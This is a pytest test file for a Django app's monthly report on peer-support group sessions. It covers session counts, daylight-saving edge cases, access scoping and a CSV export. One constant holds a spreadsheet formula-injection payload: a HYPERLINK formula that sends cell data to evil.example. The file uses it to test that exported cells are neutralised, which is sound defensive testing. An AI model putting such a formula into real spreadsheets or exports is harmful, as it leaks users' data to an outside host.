"""The monthly report: counts that add up, scoped to the coordinator's regions, and a safe CSV.

The clock is Saturday 28 February 2026, noon, Boston; each region's two groups meet on
Tuesdays at 6 pm from 6 January 2026, so February 2026 has four sessions each (3, 10, 17, 24).
"""

import csv
import datetime as dt
import io
from html.parser import HTMLParser

import pytest
from django.db.models import Sum

from console.reports import (
    Counts,
    monthly_report,
    parse_month,
    report_for_region,
    spreadsheet_safe,
)
from groups.models import Group, SessionRecord
from groups.records import session_record
from groups.services import group_create
from groups.sessions import session_cancel, session_move
from regions.models import Region, Venue
from tests.factories import CoordinatorFactory, GroupFactory, RegionFactory, weekly

FEBRUARY = dt.date(2026, 2, 1)
EVIL_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'


def report_url(region, month="2026-02", csv_file=False):
    return f"/manage/reports{'.csv' if csv_file else '/'}?region={region.pk}&month={month}"


def record(group, day, user, **fields):
    return session_record(group=group, original_date=dt.date(2026, 2, day), user=user, **fields)


@pytest.fixture
def recorded(east, west):
    """February's records: east's public group 2 held, 1 not held, 1 cancelled; its private
    group 1 held and 3 not recorded; west's group 1 held (it must never show in east's report).
    """
    group, private = east.group, east.private_group
    record(group, 3, east.lead.user, held=True, attendance=8, note="-2+3")
    record(group, 10, east.lead.user, held=True, attendance=12)
    record(group, 17, east.lead.user, held=False, not_held_reason="Snow day")
    session_cancel(group=group, original_date=dt.date(2026, 2, 24), notify=False)
    record(private, 3, east.coordinator, held=True, attendance=5)
    record(west.group, 3, west.lead.user, held=True, attendance=30, note="Western note")
    return east


def summary(report):
    return [
        (block.name, [(line.group.title, line.counts) for line in block.lines], block.totals)
        for block in report.venues
    ]


class TableCells(HTMLParser):
    """The text of each row of one table (by id) on a page: [[cell, cell, ...], ...]."""

    def __init__(self, table_id):
        super().__init__()
        self.table_id, self.inside, self.rows, self.cell = table_id, False, [], None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and dict(attrs).get("id") == self.table_id:
            self.inside = True
        elif self.inside and tag == "tr":
            self.rows.append([])
        elif self.inside and tag in ("th", "td"):
            self.cell = []

    def handle_endtag(self, tag):
        if tag == "table":
            self.inside = False
        elif self.inside and tag in ("th", "td") and self.cell is not None:
            self.rows[-1].append(" ".join("".join(self.cell).split()))
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def table(page, table_id):
    parser = TableCells(table_id)
    parser.feed(page)
    return parser.rows


def csv_blocks(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    gap = rows.index([])
    return rows[:gap], rows[gap + 1 :]


# The counts.


def test_the_report_counts_each_session_once_by_venue_and_group(recorded, east):
    report = report_for_region(east.region, FEBRUARY)
    assert summary(report) == [
        (
            "Metro Boston Library",
            [("Metro Boston Hearing Voices", Counts(4, 1, 2, 1, 0, 20))],
            Counts(4, 1, 2, 1, 0, 20),
        ),
        (
            "Metro Boston Peer Center",
            [("Metro Boston Inpatient Group", Counts(4, 0, 1, 0, 3, 5))],
            Counts(4, 0, 1, 0, 3, 5),
        ),
    ]
    assert report.totals == Counts(
        scheduled=8, cancelled=1, held=3, not_held=1, not_recorded=3, attendance=25
    )
    assert [block.totals.average for block in report.venues] == [10.0, 5.0]
    assert report.totals.average == 8.3


def test_the_report_totals_equal_the_recorded_sessions(recorded, east):
    totals = report_for_region(east.region, FEBRUARY).totals
    records = SessionRecord.objects.filter(
        group__region=east.region, original_date__range=(FEBRUARY, dt.date(2026, 2, 28))
    )
    assert (totals.held, totals.not_held, totals.attendance) == (
        records.filter(held=True).count(),
        records.filter(held=False).count(),
        records.aggregate(people=Sum("attendance"))["people"],
    )
    assert totals.scheduled == (
        totals.cancelled + totals.held + totals.not_held + totals.not_recorded
    )


def test_the_report_lists_each_recorded_session(recorded, east):
    lines = report_for_region(east.region, FEBRUARY).records
    assert [
        (line.original_date.day, line.group.title, line.held, line.attendance, line.note)
        for line in lines
    ] == [
        (3, "Metro Boston Hearing Voices", True, 8, "-2+3"),
        (3, "Metro Boston Inpatient Group", True, 5, ""),
        (10, "Metro Boston Hearing Voices", True, 12, ""),
        (17, "Metro Boston Hearing Voices", False, None, ""),
    ]


def test_a_moved_session_counts_once_in_the_month_of_its_original_date(east):
    # 24 February moved into March, 3 March moved back into February.
    session_move(group=east.group, original_date=dt.date(2026, 2, 24), new_date=dt.date(2026, 3, 2))
    session_move(group=east.group, original_date=dt.date(2026, 3, 3), new_date=dt.date(2026, 2, 27))
    counts = {
        month.month: {
            line.group.slug: line.counts.scheduled
            for block in report_for_region(east.region, month).venues
            for line in block.lines
        }
        for month in (FEBRUARY, dt.date(2026, 3, 1))
    }
    assert counts == {
        2: {"metro-boston-hearing-voices": 4, "metro-boston-inpatient": 4},
        3: {"metro-boston-hearing-voices": 5, "metro-boston-inpatient": 5},
    }


def test_a_recorded_session_counts_even_after_the_schedule_changes(recorded, east):
    # The group moves to Wednesdays from February; its Tuesday records still count.
    Group.objects.filter(pk=east.group.pk).update(start_date=dt.date(2026, 2, 4))
    east.group.refresh_from_db()
    east.group.recurrences = weekly(2)
    east.group.save()
    [library, _] = report_for_region(east.region, FEBRUARY).venues
    # Wednesdays 4, 11, 18, 25 and the recorded Tuesdays 3, 10, 17.
    assert library.lines[0].counts == Counts(7, 0, 2, 1, 4, 20)


def test_paused_groups_are_left_out_unless_they_have_a_record_that_month(recorded, east):
    Group.objects.filter(pk=east.private_group.pk).update(status=Group.Status.PAUSED)
    Group.objects.filter(pk=east.group.pk).update(status=Group.Status.ENDED)
    january = report_for_region(east.region, dt.date(2026, 1, 1))
    february = report_for_region(east.region, FEBRUARY)
    assert summary(january) == []
    assert [title for _, lines, _ in summary(february) for title, _ in lines] == [
        "Metro Boston Hearing Voices",
        "Metro Boston Inpatient Group",
    ]


def pure_group(pk, title, venue, *, start_date, start_time, weekday):
    return Group(
        pk=pk,
        title=title,
        venue=venue,
        is_public=True,
        start_date=start_date,
        start_time=start_time,
        duration_minutes=90,
        timezone="America/New_York",
        recurrences=weekly(weekday),
    )


@pytest.mark.parametrize(
    ("month", "start_date", "start_time", "weekday", "scheduled"),
    [
        # Clocks spring forward on Sunday 8 March 2026: 2:30 am does not exist that day.
        (dt.date(2026, 3, 1), dt.date(2026, 1, 4), dt.time(2, 30), 6, 5),
        # 11:30 pm on Tuesday 31 March is already 1 April in UTC; it stays in March.
        (dt.date(2026, 3, 1), dt.date(2026, 1, 6), dt.time(23, 30), 1, 5),
        (dt.date(2026, 4, 1), dt.date(2026, 1, 6), dt.time(23, 30), 1, 4),
        # 00:15 on Sunday 1 March is still February in UTC; it counts in March.
        (dt.date(2026, 2, 1), dt.date(2026, 1, 4), dt.time(0, 15), 6, 4),
        (dt.date(2026, 3, 1), dt.date(2026, 1, 4), dt.time(0, 15), 6, 5),
        # Clocks fall back on Sunday 1 November 2026: 1:30 am happens twice; one session.
        (dt.date(2026, 11, 1), dt.date(2026, 1, 4), dt.time(1, 30), 6, 5),
    ],
)
def test_scheduled_follows_local_dates_across_daylight_saving_and_month_ends(
    month, start_date, start_time, weekday, scheduled
):
    venue = Venue(pk=1, name="Library")
    group = pure_group(
        1, "Night owls", venue, start_date=start_date, start_time=start_time, weekday=weekday
    )
    report = monthly_report(
        region=Region(name="East"), month=month, groups=[group], cancelled=[], records=[]
    )
    assert report.totals == Counts(scheduled=scheduled, not_recorded=scheduled)


def test_the_pure_report_needs_no_database_and_ignores_other_months_and_groups():
    venue, other = Venue(pk=1, name="Library"), Venue(pk=2, name="Church")
    tuesday = pure_group(
        1, "Tuesday", venue, start_date=dt.date(2026, 1, 6), start_time=dt.time(18), weekday=1
    )
    friday = pure_group(
        2, "Friday", other, start_date=dt.date(2026, 1, 2), start_time=dt.time(10), weekday=4
    )
    nowhere = pure_group(
        3, "Nowhere yet", None, start_date=dt.date(2026, 1, 2), start_time=dt.time(12), weekday=4
    )
    records = [
        SessionRecord(group_id=1, original_date=dt.date(2026, 2, 3), held=True, attendance=6),
        SessionRecord(group_id=1, original_date=dt.date(2026, 1, 27), held=True, attendance=99),
        SessionRecord(group_id=2, original_date=dt.date(2026, 2, 6), held=True, attendance=3),
        SessionRecord(group_id=2, original_date=dt.date(2026, 2, 13), held=False),
        SessionRecord(group_id=9, original_date=dt.date(2026, 2, 3), held=True, attendance=50),
    ]
    cancelled = [(1, dt.date(2026, 2, 10)), (1, dt.date(2026, 3, 3)), (9, dt.date(2026, 2, 3))]
    report = monthly_report(
        region=Region(name="East"),
        month=FEBRUARY,
        groups=[tuesday, friday, nowhere],
        cancelled=cancelled,
        records=records,
    )
    assert summary(report) == [
        ("Church", [("Friday", Counts(4, 0, 1, 1, 2, 3))], Counts(4, 0, 1, 1, 2, 3)),
        ("Library", [("Tuesday", Counts(4, 1, 1, 0, 2, 6))], Counts(4, 1, 1, 0, 2, 6)),
        ("No venue yet", [("Nowhere yet", Counts(4, 0, 0, 0, 4, 0))], Counts(4, 0, 0, 0, 4, 0)),
    ]
    assert report.totals == Counts(12, 1, 2, 1, 8, 9)
    assert report.totals.average == 4.5


@pytest.mark.parametrize("groups", [1, 3])
def test_the_report_takes_three_queries_whatever_the_number_of_groups(
    db, django_assert_num_queries, groups
):
    region = RegionFactory()
    for _ in range(groups):
        GroupFactory(region=region)
    with django_assert_num_queries(3):
        report = report_for_region(region, FEBRUARY)
    assert report.totals.scheduled == 4 * groups


@pytest.mark.parametrize("groups", [1, 3])
def test_the_report_page_takes_a_fixed_number_of_queries(
    db, client, page_clock, django_assert_num_queries, groups
):
    region = RegionFactory()
    client.force_login(CoordinatorFactory(region=region).user)
    for _ in range(groups):
        GroupFactory(region=region)
    # The last of each is the registrations' counts (console/registration_counts.py).
    with django_assert_num_queries(9):
        response = client.get(report_url(region))
    assert response.context["report"].totals.scheduled == 4 * groups
    with django_assert_num_queries(8):
        client.get(report_url(region, csv_file=True))


# The page.


def test_the_page_shows_the_numbers_in_a_data_table(coordinator_client, recorded, east):
    response = coordinator_client.get(report_url(east.region))
    page = response.content.decode()
    assert response.status_code == 200
    assert page.count("<h1") == 1
    assert "<h1>Monthly report: Metro Boston RLC, February 2026</h1>" in page
    assert (
        '<div class="table-scroll" role="region" tabindex="0" '
        'aria-labelledby="report-summary-caption">\n<table class="report-table" '
        'id="report-summary">\n  <caption id="report-summary-caption">Sessions of Metro Boston '
        "RLC in February 2026, by venue and group</caption>" in page
    )
    assert table(page, "report-summary") == [
        [
            "Group",
            "Scheduled",
            "Cancelled",
            "Held",
            "Not held",
            "Not yet recorded",
            "Total attendance",
            "Average attendance per held session",
        ],
        ["Metro Boston Library"],
        ["Metro Boston Hearing Voices", "4", "1", "2", "1", "0", "20", "10.0"],
        ["All groups at Metro Boston Library", "4", "1", "2", "1", "0", "20", "10.0"],
        ["Metro Boston Peer Center"],
        ["Metro Boston Inpatient Group Private", "4", "0", "1", "0", "3", "5", "5.0"],
        ["All groups at Metro Boston Peer Center", "4", "0", "1", "0", "3", "5", "5.0"],
        ["All of Metro Boston RLC", "8", "1", "3", "1", "3", "25", "8.3"],
    ]
    assert 'scope="col"' in page
    assert 'scope="row"' in page
    assert 'scope="rowgroup"' in page
    assert "Western" not in page
    assert "Snow day" in page


def test_the_csv_holds_the_same_numbers_as_the_page(coordinator_client, recorded, east):
    page = coordinator_client.get(report_url(east.region)).content.decode()
    response = coordinator_client.get(report_url(east.region, csv_file=True))
    assert response["Content-Disposition"] == (
        'attachment; filename="peerhub-metro-boston-2026-02.csv"'
    )
    counts, sessions = csv_blocks(response)
    on_screen = [
        [("" if cell == "–" else cell) for cell in row[1:]]
        for row in table(page, "report-summary")[1:]
        if len(row) == 8
    ]
    assert [row[5:] for row in counts[1:]] == on_screen
    assert counts == [
        [
            "Region",
            "Month",
            "Venue",
            "Group",
            "Private",
            "Scheduled",
            "Cancelled",
            "Held",
            "Not held",
            "Not yet recorded",
            "Total attendance",
            "Average attendance per held session",
        ],
        ["Metro Boston RLC", "2026-02", "Metro Boston Library", "Metro Boston Hearing Voices",
         "no", "4", "1", "2", "1", "0", "20", "10.0"],
        ["Metro Boston RLC", "2026-02", "Metro Boston Library", "Total for the venue",
         "", "4", "1", "2", "1", "0", "20", "10.0"],
        ["Metro Boston RLC", "2026-02", "Metro Boston Peer Center", "Metro Boston Inpatient Group",
         "yes", "4", "0", "1", "0", "3", "5", "5.0"],
        ["Metro Boston RLC", "2026-02", "Metro Boston Peer Center", "Total for the venue",
         "", "4", "0", "1", "0", "3", "5", "5.0"],
        ["Metro Boston RLC", "2026-02", "All venues", "Total for the region",
         "", "8", "1", "3", "1", "3", "25", "8.3"],
    ]  # fmt: skip
    assert sessions == [
        ["Date", "Group", "Venue", "Held", "Attendance", "Reason not held", "Note"],
        ["2026-02-03", "Metro Boston Hearing Voices", "Metro Boston Library", "yes", "8", "",
         "'-2+3"],
        ["2026-02-03", "Metro Boston Inpatient Group", "Metro Boston Peer Center", "yes", "5",
         "", ""],
        ["2026-02-10", "Metro Boston Hearing Voices", "Metro Boston Library", "yes", "12", "", ""],
        ["2026-02-17", "Metro Boston Hearing Voices", "Metro Boston Library", "no", "",
         "Snow day", ""],
    ]  # fmt: skip


def test_no_csv_cell_can_start_a_formula(coordinator_client, east):
    venue = Venue.objects.create(
        region=east.region, name="@Home Peer Center", slug="at-home", kind=Venue.Kind.PEER_CENTER
    )
    group = group_create(
        title=EVIL_TITLE,
        slug="evil",
        region=east.region,
        venue=venue,
        start_date=dt.date(2026, 1, 6),
        start_time=dt.time(18, 0),
        recurrences=weekly(1),
        facilitators=[(east.lead, "lead")],
    )
    record(group, 3, east.lead.user, held=True, attendance=4, note="-2+3")
    record(group, 10, east.lead.user, held=False, not_held_reason="+1 for snow")
    record(group, 17, east.lead.user, held=True, attendance=0, note="=1+1 and @everyone")
    counts, sessions = csv_blocks(coordinator_client.get(report_url(east.region, csv_file=True)))
    assert counts[1][2:4] == ["'@Home Peer Center", "'" + EVIL_TITLE]
    assert [row[1:3] + row[5:] for row in sessions[1:]] == [
        ["'" + EVIL_TITLE, "'@Home Peer Center", "", "'-2+3"],
        ["'" + EVIL_TITLE, "'@Home Peer Center", "'+1 for snow", ""],
        ["'" + EVIL_TITLE, "'@Home Peer Center", "", "'=1+1 and @everyone"],
    ]
    every_cell = [cell for row in counts + sessions for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Hearing Voices", "Hearing Voices"),
        ("a=1", "a=1"),
        ("", ""),
        (12, 12),
    ],
)
def test_spreadsheet_safe_neutralises_formula_starts_only(value, safe):
    assert spreadsheet_safe(value) == safe


def test_the_defaults_are_the_first_region_and_the_previous_month(coordinator_client, east):
    response = coordinator_client.get("/manage/reports/")
    assert (response.status_code, response.context["region"], response.context["month"]) == (
        200,
        east.region,
        dt.date(2026, 1, 1),
    )
    assert response.context["report"].totals == Counts(scheduled=8, not_recorded=8)
    assert [region.name for region in response.context["regions"]] == ["Metro Boston RLC"]


def test_a_superuser_chooses_among_every_region(client, east, west, django_user_model):
    client.force_login(django_user_model.objects.create_superuser(email="root@example.org"))
    response = client.get(report_url(west.region))
    assert [region.name for region in response.context["regions"]] == [
        "Metro Boston RLC",
        "Western Mass RLC",
    ]
    assert response.context["region"] == west.region


def test_the_nav_links_to_the_reports(coordinator_client):
    assert 'href="/manage/reports/"' in coordinator_client.get("/manage/").content.decode()
    page = coordinator_client.get("/manage/reports/").content.decode()
    assert '<a href="/manage/reports/" aria-current="page">Reports</a>' in page


def test_march_2026_counts_every_session_across_the_clock_change(coordinator_client, east):
    common = {"region": east.region, "venue": east.venue, "start_date": dt.date(2026, 1, 4)}
    group_create(
        title="Early risers", slug="early", start_time=dt.time(2, 30), recurrences=weekly(6),
        **common,
    )  # fmt: skip
    group_create(
        title="Late night", slug="late", start_time=dt.time(23, 30), recurrences=weekly(2),
        start_date=dt.date(2026, 1, 7), region=east.region, venue=east.venue,
    )  # fmt: skip
    report = coordinator_client.get(report_url(east.region, "2026-03")).context["report"]
    assert {
        line.group.slug: line.counts.scheduled for block in report.venues for line in block.lines
    } == {
        "early": 5,  # Sundays 1, 8 (2:30 am does not exist; 3:30 am), 15, 22, 29
        "late": 4,  # Wednesdays 4, 11, 18, 25
        "metro-boston-hearing-voices": 5,  # Tuesdays 3 to 31
        "metro-boston-inpatient": 5,  # the cancelled 10 March is still scheduled
    }
    assert report.totals == Counts(scheduled=19, cancelled=1, not_recorded=18)


# Scoping and bad parameters.


def test_another_regions_report_is_404(coordinator_client, recorded, west):
    for csv_file in (False, True):
        assert coordinator_client.get(report_url(west.region, csv_file=csv_file)).status_code == 404
        assert (
            coordinator_client.get(
                f"/manage/reports{'.csv' if csv_file else '/'}?region=999999"
            ).status_code
            == 404
        )


def test_visitors_sign_in_and_facilitators_get_403(client, east):
    for path in (report_url(east.region), report_url(east.region, csv_file=True)):
        response = client.get(path)
        assert (response.status_code, response["Location"].split("?")[0]) == (
            302,
            "/accounts/login/",
        )
    client.force_login(east.lead.user)
    assert client.get(report_url(east.region)).status_code == 403
    assert client.get(report_url(east.region, csv_file=True)).status_code == 403


@pytest.mark.parametrize(
    ("month", "message"),
    [
        ("2026-13", "The month “2026-13” cannot be read: write the year and the month as "
         "YYYY-MM, like 2026-02."),
        ("abc", "The month “abc” cannot be read: write the year and the month as YYYY-MM, "
         "like 2026-02."),
        ("2026-2", "The month “2026-2” cannot be read: write the year and the month as "
         "YYYY-MM, like 2026-02."),
        ("2026-00", "The month “2026-00” cannot be read: write the year and the month as "
         "YYYY-MM, like 2026-02."),
        ("1999-12", "The month “1999-12” is out of range: choose one from 2000 to 2099."),
    ],
)  # fmt: skip
def test_a_month_that_cannot_be_read_is_a_400_that_names_it(
    coordinator_client, east, month, message
):
    response = coordinator_client.get(report_url(east.region, month))
    assert response.status_code == 400
    assert f"Please check the month: {message}" in response.content.decode()
    assert "report" not in response.context
    assert response.context["region"] == east.region  # the form keeps the region asked for
    response = coordinator_client.get(report_url(east.region, month, csv_file=True))
    assert (response.status_code, response["Content-Type"]) == (400, "text/plain; charset=utf-8")
    assert response.content.decode() == f"month: {message}\n"


def test_a_region_that_cannot_be_read_is_a_400_that_names_it(coordinator_client, east):
    response = coordinator_client.get("/manage/reports/?region=abc&month=2026-02")
    assert response.status_code == 400
    assert (
        "Please check the region: The region “abc” cannot be read: choose one of your regions."
        in response.content.decode()
    )


def test_parse_month_reads_year_and_month():
    assert parse_month("2026-02") == FEBRUARY
    assert parse_month("2099-12") == dt.date(2099, 12, 1)


def test_a_month_with_no_sessions_says_so(coordinator_client, east):
    response = coordinator_client.get(report_url(east.region, "2025-12"))
    page = response.content.decode()
    assert response.context["report"].totals == Counts()
    assert "No sessions were scheduled in December 2025." in page
    counts, sessions = csv_blocks(
        coordinator_client.get(report_url(east.region, "2025-12", csv_file=True))
    )
    assert counts[1:] == [
        ["Metro Boston RLC", "2025-12", "All venues", "Total for the region", "", "0", "0", "0",
         "0", "0", "0", ""],
    ]  # fmt: skip
    assert sessions == [["Date", "Group", "Venue", "Held", "Attendance", "Reason not held", "Note"]]
